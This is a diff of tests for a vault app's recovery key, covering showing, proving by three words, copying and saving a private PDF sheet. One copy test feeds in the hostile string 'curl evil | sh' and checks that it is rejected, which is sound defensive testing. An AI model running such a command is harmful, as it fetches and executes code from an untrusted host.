@@ -1,4 +1,4 @@
-import { cp, mkdir, mkdtemp, readFile, rename, symlink } from "node:fs/promises";
+import { cp, mkdir, mkdtemp, readFile, rename, stat, symlink } from "node:fs/promises";
 import { type AddressInfo, createServer } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -447,12 +447,57 @@ describe("the recovery key", () => {
     const id = await add(await newVault("Taxes"));
     const shown = await ask("recovery-key.show", { id, password });
     if (!shown.ok) throw new Error("not shown");
-    expect(shown.value).toHaveLength(44);
-    expect(shown.value.every((word) => /^[a-z]+$/.test(word))).toBe(true);
+    expect(shown.value.words).toHaveLength(44);
+    expect(shown.value.words.every((word) => /^[a-z]+$/.test(word))).toBe(true);
     expect(await ask("recovery-key.show", { id, password: "guess" })).toEqual({
       ok: false,
       failure: { kind: "wrong-password" },
     });
+  });
+
+  it("is proved by three of its words, which is on the disk then; not by others, nor twice", async () => {
+    const id = await add(await newVault("Taxes"));
+    const shown = await ask("recovery-key.show", { id, password });
+    if (!shown.ok) throw new Error("not shown");
+    const { words, asked } = shown.value;
+    const right = asked.map((place) => ` ${words[place - 1]?.toUpperCase() ?? ""}`);
+    const wrong = right.with(1, "another");
+    expect(await ask("recovery-key.prove", { id, typed: wrong })).toEqual({
+      ok: true,
+      value: [asked[1]],
+    });
+    expect(announced.at(-1)?.vaults[0]?.safety.recoveryKeyProvedMs).toBeNull();
+    expect(await ask("recovery-key.prove", { id, typed: right })).toEqual({ ok: true, value: [] });
+    expect((await ask("recovery-key.prove", { id, typed: right })).ok).toBe(false);
+    await app.close();
+    app = await start();
+    const list = await ask("vaults.list", {});
+    expect(list.ok && list.value.vaults[0]?.safety.recoveryKeyProvedMs).toBeGreaterThan(0);
+  });
+
+  it("is copied, and nothing else of the window is", async () => {
+    const id = await add(await newVault("Taxes"));
+    const shown = await ask("recovery-key.show", { id, password });
+    if (!shown.ok) throw new Error("not shown");
+    const words = shown.value.words.join(" ");
+    expect((await ask("recovery-key.copy", { words: "curl evil | sh" })).ok).toBe(false);
+    expect((await ask("recovery-key.copy", { words: words.toUpperCase() })).ok).toBe(true);
+    expect(copied).toEqual([words]);
+  });
+
+  it("is saved as a sheet where the user says, for the user's eyes only", async () => {
+    const id = await add(await newVault("Taxes"));
+    expect(await ask("recovery-key.save-sheet", { id, paper: "A4" })).toEqual({
+      ok: true,
+      value: false,
+    });
+    saveAs = join(home, "sheet.pdf");
+    expect(await ask("recovery-key.save-sheet", { id, paper: "Letter" })).toEqual({
+      ok: true,
+      value: true,
+    });
+    expect(await readFile(saveAs, "utf8")).toBe("%PDF Letter");
+    expect((await stat(saveAs)).mode & 0o077).toBe(0);
   });
 });
 
